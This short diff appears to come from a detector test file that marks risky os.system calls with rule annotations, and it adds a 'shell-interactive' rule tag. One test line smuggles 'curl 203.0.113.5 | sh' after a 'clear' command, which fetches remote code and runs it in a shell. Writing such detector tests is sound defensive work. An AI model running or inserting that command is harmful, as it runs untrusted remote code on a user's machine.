@@ -531,6 +531,7 @@ os.system("cls" if os.name == "nt" else "clear")
 # ruleid: process-partial-path
 os.system("clear")
 # ruleid: shell-command, process-partial-path
+# ruleid: shell-interactive
 os.system("clear; curl 203.0.113.5 | sh")
 # ruleid: shell-command
 os.system("cls" if os.name == "nt" else cmd)
